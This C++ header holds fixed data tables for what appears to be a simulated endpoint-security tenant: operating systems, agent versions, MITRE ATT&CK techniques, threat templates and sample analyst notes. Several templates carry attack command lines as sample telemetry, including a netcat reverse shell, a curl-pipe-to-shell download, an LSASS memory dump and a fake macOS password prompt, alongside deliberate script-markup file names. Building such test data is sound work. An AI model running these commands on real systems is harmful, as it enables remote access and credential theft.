// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QtGlobal>

#include <iterator>

// The fixed tables the tenant is generated from and answers with: operating systems, agent
// versions, classifications, verdicts, engines, MITRE techniques, threat templates, names.
namespace s1sim::tenant {

enum OsType : quint8 { OsWindows, OsMac, OsLinux };
inline constexpr const char *OsTypeNames[] = {"windows", "macos", "linux"};

enum AgentKind : quint8 { KindWinDesktop, KindWinLaptop, KindWinServer, KindMac, KindLinux, KindCount };
inline constexpr OsType KindOs[] = {OsWindows, OsWindows, OsWindows, OsMac, OsLinux};
inline constexpr const char *MachineTypeNames[] = {"desktop", "laptop", "server"}; // sorted: rank = index
inline constexpr int KindMachine[] = {0, 1, 2, 1, 2};
inline constexpr const char *InterfaceNames[] = {"Ethernet0", "Wi-Fi", "Ethernet0", "en0", "ens160"};

struct OsVariant
{
    AgentKind kind;
    const char *name;
    const char *revision;
};
inline constexpr OsVariant OsVariants[] = {
    {KindWinDesktop, "Windows 10 Pro", "19045"},
    {KindWinDesktop, "Windows 11 Pro", "22631"},
    {KindWinDesktop, "Windows 11 Enterprise", "22631"},
    {KindWinDesktop, "Windows 10 Enterprise", "19045"},
    {KindWinLaptop, "Windows 11 Pro", "22631"},
    {KindWinLaptop, "Windows 10 Pro", "19045"},
    {KindWinServer, "Windows Server 2019 Standard", "17763"},
    {KindWinServer, "Windows Server 2022 Datacenter", "20348"},
    {KindWinServer, "Windows Server 2016 Standard", "14393"},
    {KindMac, "macOS 14.5", "23F79"},
    {KindMac, "macOS 13.6.7", "22G720"},
    {KindMac, "macOS 15.1", "24B83"},
    {KindLinux, "Ubuntu 22.04.4 LTS", "5.15.0-105-generic"},
    {KindLinux, "Red Hat Enterprise Linux 9.3", "5.14.0-362.8.1.el9_3.x86_64"},
    {KindLinux, "Debian GNU/Linux 12 (bookworm)", "6.1.0-21-amd64"},
    {KindLinux, "Amazon Linux 2023", "6.1.90-99.173.amzn2023.x86_64"},
};

struct AgentVersion
{
    OsType os;
    const char *version;
};
inline constexpr AgentVersion AgentVersions[] = {
    {OsWindows, "23.3.3.264"},
    {OsWindows, "23.4.4.223"},
    {OsWindows, "24.1.5.277"},
    {OsWindows, "24.2.2.20"},
    {OsMac, "23.4.2.7278"},
    {OsMac, "24.1.2.7444"},
    {OsMac, "24.2.1.7527"},
    {OsLinux, "23.4.2.14"},
    {OsLinux, "24.1.2.6"},
    {OsLinux, "24.2.1.8"},
};
inline constexpr int AgentVersionCount = int(std::size(AgentVersions));

enum Classification : quint8 {
    ClMalware,
    ClRansomware,
    ClTrojan,
    ClInfostealer,
    ClPua,
    ClExploit,
    ClHacktool,
    ClBackdoor,
    ClMiner,
    ClDownloader
};
inline constexpr const char *ClassificationNames[] = {"Malware", "Ransomware", "Trojan", "Infostealer", "PUA",
    "Exploit", "Hacktool", "Backdoor", "Miner", "Downloader"};

inline constexpr const char *ConfidenceNames[] = {"malicious", "suspicious", "n/a"};
enum Verdict : quint8 { VerdictUndefined, VerdictTruePositive, VerdictFalsePositive, VerdictSuspicious };
inline constexpr const char *VerdictNames[] = {"undefined", "true_positive", "false_positive", "suspicious"};
inline constexpr const char *VerdictDescriptions[]
    = {"Undefined", "True positive", "False positive", "Suspicious"};
enum Incident : quint8 { IncidentUnresolved, IncidentInProgress, IncidentResolved };
inline constexpr const char *IncidentNames[] = {"unresolved", "in_progress", "resolved"};
inline constexpr const char *IncidentDescriptions[] = {"Unresolved", "In progress", "Resolved"};
enum Mitigation : quint8 { MitigationMitigated, MitigationNotMitigated, MitigationBenign };
inline constexpr const char *MitigationNames[] = {"mitigated", "not_mitigated", "marked_as_benign"};
inline constexpr const char *MitigationDescriptions[] = {"Mitigated", "Not mitigated", "Marked as benign"};
inline constexpr int MitigationRank[] = {1, 2, 0}; // alphabetical order of the names

struct Engine
{
    const char *key;
    const char *title;
    bool isStatic;
    const char *source;
};
enum EngineId : quint8 {
    EngCloud,
    EngStatic,
    EngStaticSuspicious,
    EngReputation,
    EngBehavioral,
    EngDocuments,
    EngExploits,
    EngIntrusion,
    EngManual
};
inline constexpr Engine Engines[] = {
    {"sentinelone_cloud", "SentinelOne Cloud", true, "Cloud"},
    {"pre_execution", "On-Write Static AI", true, "Static"},
    {"pre_execution_suspicious", "On-Write Static AI - Suspicious", true, "Static"},
    {"reputation", "Reputation", true, "Cloud"},
    {"executables", "Behavioral AI", false, "Engine"},
    {"data_files", "Documents, Scripts", false, "Engine"},
    {"exploits", "Anti Exploitation / Fileless", false, "Engine"},
    {"penetration", "Intrusion Detection", false, "Engine"},
    {"manual", "Manual", false, "Static"},
};

struct InitiatedBy
{
    const char *key;
    const char *description;
};
inline constexpr InitiatedBy InitiatedByValues[] = {
    {"agent_policy", "Agent Policy"},
    {"star_active", "Custom Rule"},
    {"full_disk_scan", "Full Disk Scan"},
    {"console_api", "Console API"},
    {"dv_command", "Deep Visibility Command"},
};
inline constexpr int InitiatedByWeights[] = {82, 6, 6, 3, 3};

inline constexpr const char *Publishers[] = {
    "", "Microsoft Windows", "Sysinternals - www.sysinternals.com", "philandro Software GmbH", "Apple Inc."};

// Real MITRE ATT&CK techniques with their tactic; category/description as a console shows them.
struct Technique
{
    const char *id;
    const char *link;
    const char *tactic;
    const char *category;
    const char *description;
    int indicatorId;
};
enum TechniqueId : qint8 {
    TNone = -1,
    TPowerShell,
    TInjection,
    TLsass,
    TRunKeys,
    TEncrypt,
    TWebC2,
    TObfuscation,
    TPhishing,
    TIngress,
    TSysInfo,
    TModifyRegistry,
    TRundll32,
    TInhibitRecovery,
    TMasquerade,
    TMaliciousFile,
    TBrowserCreds,
    TAdminShares,
    TResourceHijack,
    TLaunchAgent,
    TUnixShell,
    TCron,
    TAppleScript,
    TClientExploit,
    TRemoteAccess,
    TechniqueCount
};
inline constexpr Technique Techniques[] = {
    {"T1059.001", "https://attack.mitre.org/techniques/T1059/001/", "Execution", "General",
        "Suspicious PowerShell command line was executed", 41},
    {"T1055", "https://attack.mitre.org/techniques/T1055/", "Defense Evasion", "Injection",
        "Code was injected into a trusted process", 18},
    {"T1003.001", "https://attack.mitre.org/techniques/T1003/001/", "Credential Access", "InfoStealer",
        "Process read the memory of LSASS", 73},
    {"T1547.001", "https://attack.mitre.org/techniques/T1547/001/", "Persistence", "Persistence",
        "Application registered itself to run at logon", 55},
    {"T1486", "https://attack.mitre.org/techniques/T1486/", "Impact", "Ransomware",
        "Massive file encryption was detected", 12},
    {"T1071.001", "https://attack.mitre.org/techniques/T1071/001/", "Command and Control", "Malware",
        "Periodic beaconing over HTTP(S)", 96},
    {"T1027", "https://attack.mitre.org/techniques/T1027/", "Defense Evasion", "Evasion",
        "Obfuscated script content was detected", 27},
    {"T1566.001", "https://attack.mitre.org/techniques/T1566/001/", "Initial Access", "Exploitation",
        "Office document spawned a child process", 64},
    {"T1105", "https://attack.mitre.org/techniques/T1105/", "Command and Control", "Post Exploitation",
        "Executable was downloaded from the internet", 88},
    {"T1082", "https://attack.mitre.org/techniques/T1082/", "Discovery", "Discovery",
        "System information was enumerated", 103},
    {"T1112", "https://attack.mitre.org/techniques/T1112/", "Defense Evasion", "Evasion",
        "Security-related registry settings were modified", 35},
    {"T1218.011", "https://attack.mitre.org/techniques/T1218/011/", "Defense Evasion", "Evasion",
        "Indirect command was executed via rundll32", 123},
    {"T1490", "https://attack.mitre.org/techniques/T1490/", "Impact", "Ransomware",
        "Volume shadow copies were deleted", 14},
    {"T1036.005", "https://attack.mitre.org/techniques/T1036/005/", "Defense Evasion", "Hiding/Stealthiness",
        "Binary masquerades as a system file", 47},
    {"T1204.002", "https://attack.mitre.org/techniques/T1204/002/", "Execution", "General",
        "User executed a file from the Downloads folder", 150},
    {"T1555.003", "https://attack.mitre.org/techniques/T1555/003/", "Credential Access", "InfoStealer",
        "Browser credential stores were read", 77},
    {"T1021.002", "https://attack.mitre.org/techniques/T1021/002/", "Lateral Movement", "Post Exploitation",
        "A service was created remotely over an admin share", 131},
    {"T1496", "https://attack.mitre.org/techniques/T1496/", "Impact", "Malware",
        "Sustained high CPU use by a mining process", 158},
    {"T1543.001", "https://attack.mitre.org/techniques/T1543/001/", "Persistence", "Persistence",
        "A launch agent was created", 166},
    {"T1059.004", "https://attack.mitre.org/techniques/T1059/004/", "Execution", "General",
        "Suspicious shell command line was executed", 170},
    {"T1053.003", "https://attack.mitre.org/techniques/T1053/003/", "Persistence", "Persistence",
        "A crontab entry was added", 174},
    {"T1059.002", "https://attack.mitre.org/techniques/T1059/002/", "Execution", "General",
        "AppleScript was executed from an unusual parent", 181},
    {"T1203", "https://attack.mitre.org/techniques/T1203/", "Execution", "Exploitation",
        "Office equation editor spawned a process", 67},
    {"T1219", "https://attack.mitre.org/techniques/T1219/", "Command and Control", "General",
        "A remote access tool was started", 190},
};
static_assert(std::size(Techniques) == std::size_t(TechniqueCount));

inline constexpr quint8 OsW = 1, OsM = 2, OsL = 4;

// Directories: {u} = user, {r} = a random token.
inline constexpr const char16_t *DirWinDownloads = u"\\Device\\HarddiskVolume3\\Users\\{u}\\Downloads\\";
inline constexpr const char16_t *DirWinOutlook
    = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
      u"Outlook\\{r}\\";
inline constexpr const char16_t *DirWinRoaming = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Roaming\\";
inline constexpr const char16_t *DirWinTemp
    = u"\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Temp\\";
inline constexpr const char16_t *DirWinProgramData = u"\\Device\\HarddiskVolume3\\ProgramData\\{r}\\";
inline constexpr const char16_t *DirWinWindows = u"\\Device\\HarddiskVolume3\\Windows\\";
inline constexpr const char16_t *DirMacDownloads = u"/Users/{u}/Downloads/";
inline constexpr const char16_t *DirMacLaunchAgents = u"/Users/{u}/Library/LaunchAgents/";
inline constexpr const char16_t *DirMacVolume = u"/Volumes/Installer/";
inline constexpr const char16_t *DirLinuxHiddenTmp = u"/tmp/.x/";
inline constexpr const char16_t *DirLinuxVarTmp = u"/var/tmp/";
inline constexpr const char16_t *DirLinuxShm = u"/dev/shm/";
inline constexpr const char16_t *DirLinuxTmp = u"/tmp/";

struct ThreatTemplate
{
    const char16_t *name; // threatName; %1 becomes a number
    const char16_t *file; // file name (%1 as above); nullptr: fileless
    quint8 osMask;
    Classification classification;
    const char16_t *dir;
    const char *originator;
    const char *arguments;
    int publisher;
    TechniqueId techniques[3];
};

// Names include hostile text on purpose (markup, quotes, ampersands, non-ASCII): clients must show it
// as plain text.
inline constexpr ThreatTemplate Templates[] = {
    {u"mimikatz.exe", u"mimikatz.exe", OsW, ClHacktool, DirWinDownloads, "explorer.exe", "", 0,
        {TLsass, TInjection, TNone}},
    {u"invoice_%1.docm", u"invoice_%1.docm", OsW, ClDownloader, DirWinOutlook, "OUTLOOK.EXE", "", 0,
        {TPhishing, TPowerShell, TIngress}},
    {u"svch0st.exe", u"svch0st.exe", OsW, ClTrojan, DirWinRoaming, "explorer.exe", "", 0,
        {TMasquerade, TRunKeys, TWebC2}},
    {u"Emotet loader", u"%1.dll", OsW, ClTrojan, DirWinTemp, "rundll32.exe", "", 0,
        {TRundll32, TWebC2, TObfuscation}},
    {u"xmrig.exe", u"xmrig.exe", OsW, ClMiner, DirWinProgramData, "svchost.exe", "", 0,
        {TResourceHijack, TIngress, TNone}},
    {u"AgentTesla.exe", u"AgentTesla.exe", OsW, ClInfostealer, DirWinRoaming, "explorer.exe", "", 0,
        {TBrowserCreds, TWebC2, TSysInfo}},
    {u"Rechnung_März.pdf.exe", u"Rechnung_März.pdf.exe", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "",
        0, {TMaliciousFile, TMasquerade, TNone}},
    {u"Q3 Budget & Forecast.xlsm", u"Q3 Budget & Forecast.xlsm", OsW, ClDownloader, DirWinOutlook,
        "OUTLOOK.EXE", "", 0, {TPhishing, TPowerShell, TNone}},
    {u"O'Brien_CV.doc.exe", u"O'Brien_CV.doc.exe", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TMasquerade, TRunKeys}},
    {u"счёт_%1.scr", u"счёт_%1.scr", OsW, ClTrojan, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TWebC2, TNone}},
    {u"报价单_%1.exe", u"报价单_%1.exe", OsW, ClBackdoor, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TWebC2, TRunKeys}},
    {u"LockBit3.exe", u"LockBit3.exe", OsW, ClRansomware, DirWinProgramData, "cmd.exe", "", 0,
        {TEncrypt, TInhibitRecovery, TModifyRegistry}},
    {u"tasksche.exe", u"tasksche.exe", OsW, ClRansomware, DirWinProgramData, "mssecsvc.exe", "", 0,
        {TEncrypt, TInhibitRecovery, TAdminShares}},
    {u"beacon_x64.dll", u"beacon_x64.dll", OsW, ClBackdoor, DirWinTemp, "rundll32.exe", "", 0,
        {TInjection, TWebC2, TRundll32}},
    {u"procdump64.exe", u"procdump64.exe", OsW, ClHacktool, DirWinTemp, "cmd.exe",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp", 2, {TLsass, TNone, TNone}},
    {u"PSEXESVC.exe", u"PSEXESVC.exe", OsW, ClHacktool, DirWinWindows, "services.exe", "", 2,
        {TAdminShares, TNone, TNone}},
    {u"nc.exe", u"nc.exe", OsW, ClHacktool, DirWinTemp, "cmd.exe", "nc.exe -e cmd.exe 198.51.100.23 4444", 0,
        {TIngress, TWebC2, TNone}},
    {u"setup_crack_v%1.exe", u"setup_crack_v%1.exe", OsW, ClPua, DirWinDownloads, "explorer.exe", "", 0,
        {TMaliciousFile, TNone, TNone}},
    {u"quote_%1.rtf", u"quote_%1.rtf", OsW, ClExploit, DirWinOutlook, "EQNEDT32.EXE", "", 0,
        {TClientExploit, TPhishing, TIngress}},
    {u"AnyDesk.exe", u"AnyDesk.exe", OsW, ClPua, DirWinDownloads, "explorer.exe", "", 3,
        {TRemoteAccess, TNone, TNone}},
    {u"powershell.exe (interactive session)", nullptr, OsW, ClMalware, nullptr, "cmd.exe",
        "powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        0, {TPowerShell, TObfuscation, TIngress}},
    {u"rundll32.exe (interactive session)", nullptr, OsW, ClMalware, nullptr, "explorer.exe",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()", 0,
        {TRundll32, TInjection, TNone}},
    {u"wscript.exe (interactive session)", nullptr, OsW, ClDownloader, nullptr, "explorer.exe",
        "wscript.exe //B //E:jscript invoice.txt", 0, {TObfuscation, TIngress, TNone}},
    {u"FlashPlayer_Installer.dmg", u"FlashPlayer_Installer.dmg", OsM, ClDownloader, DirMacDownloads, "Safari",
        "", 0, {TMaliciousFile, TIngress, TNone}},
    {u"AdLoad", u"com.searchd%1.service", OsM, ClPua, DirMacLaunchAgents, "launchd", "", 0,
        {TLaunchAgent, TWebC2, TNone}},
    {u"AtomicStealer", u"Installer", OsM, ClInfostealer, DirMacVolume, "Finder", "", 0,
        {TBrowserCreds, TAppleScript, TSysInfo}},
    {u"Invoice \"urgent\" <copy>.app", u"Invoice \"urgent\" <copy>.app", OsM, ClTrojan, DirMacDownloads,
        "Finder", "", 0, {TMaliciousFile, TLaunchAgent, TNone}},
    {u"osascript (interactive session)", nullptr, OsM, ClInfostealer, nullptr, "Terminal",
        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
        0, {TAppleScript, TBrowserCreds, TNone}},
    {u"xmrig", u"xmrig", OsL, ClMiner, DirLinuxHiddenTmp, "bash", "", 0, {TResourceHijack, TIngress, TCron}},
    {u"kdevtmpfsi", u"kdevtmpfsi", OsL, ClMiner, DirLinuxTmp, "kinsing", "", 0,
        {TResourceHijack, TCron, TNone}},
    {u"tsunami", u"tsunami", OsL, ClBackdoor, DirLinuxVarTmp, "bash", "", 0, {TWebC2, TCron, TNone}},
    {u"mirai.x86", u"mirai.x86", OsL, ClMalware, DirLinuxTmp, "wget", "", 0, {TIngress, TWebC2, TNone}},
    {u"linpeas.sh", u"linpeas.sh", OsL, ClHacktool, DirLinuxShm, "bash", "", 0,
        {TSysInfo, TUnixShell, TNone}},
    {u"<script>alert('s1')</script>.sh", u"<script>alert('s1')</script>.sh", OsL, ClDownloader, DirLinuxTmp,
        "bash", "", 0, {TUnixShell, TObfuscation, TNone}},
    {u"bash (interactive session)", nullptr, OsL, ClMalware, nullptr, "sshd",
        "bash -c 'curl -s http://198.51.100.7/x.sh | sh'", 0, {TUnixShell, TIngress, TNone}},
};
inline constexpr int TemplateCount = int(std::size(Templates));

inline constexpr const char *FirstNames[] = {"anna", "ben", "carla", "deniz", "emil", "fatima", "georg",
    "hana", "ivan", "julia", "kenji", "lea", "marco", "nina", "omar", "priya", "quentin", "rosa", "sven",
    "tariq", "ute", "vera", "wei", "yusuf", "zoe", "john"};
inline constexpr const char *LastNames[]
    = {"schmidt", "miller", "nguyen", "garcia", "kowalski", "tanaka", "okafor", "rossi", "jensen", "haddad",
        "fischer", "smith", "doe", "meyer", "silva", "yilmaz", "brown", "novak"};
inline constexpr const char *Departments[]
    = {"FIN", "HR", "ENG", "SLS", "OPS", "IT", "MKT", "LEG", "RND", "SUP"};
inline constexpr const char *ServerRoles[]
    = {"DB", "WEB", "DC", "FS", "APP", "EXCH", "SQL", "PRN", "RDS", "BKP"};
inline constexpr const char *LinuxRoles[]
    = {"k8s-node", "build", "web", "db", "bastion", "ci-runner", "proxy"};
inline constexpr const char *MacPrefixes[] = {"3c:22:fb", "f8:ff:c2", "a4:83:e7", "14:7d:da"};
inline constexpr const char *PcPrefixes[] = {"00:50:56", "b4:2e:99", "d8:bb:c1", "00:15:5d", "3c:52:82"};

struct Analyst
{
    const char16_t *name;
    quint64 id;
};
inline constexpr Analyst Analysts[] = {
    {u"Jane Analyst", 1466523455634785813ull},
    {u"Omar Haddad", 1509823440919201331ull},
    {u"Li Wei", 1602210874541283622ull},
};
inline constexpr const char16_t *ApiUserEmail = u"jane.analyst@acme.example";

inline constexpr const char16_t *NoteTexts[] = {
    u"Confirmed with the user: attachment opened from a phishing mail. Host isolated.",
    u"Escalated to IR, ticket INC-%1.",
    u"False positive: internal build tool, exclusion requested.",
    u"Hash submitted to the sandbox: 54/72 engines flag it.",
    u"Waiting for the user to call back.",
    u"Known adware bundle, user informed.",
    u"Related to the campaign tracked in OpenCTI.",
    u"Quarantine verified, no lateral movement seen.",
    u"VIP laptop – handle with priority.",
    u"Kunde informiert, Rechner wird neu aufgesetzt (Ticket Nr. %1).",
    u"Note with <b>markup</b> & \"quotes\" – must show as plain text.",
};

} // namespace s1sim::tenant
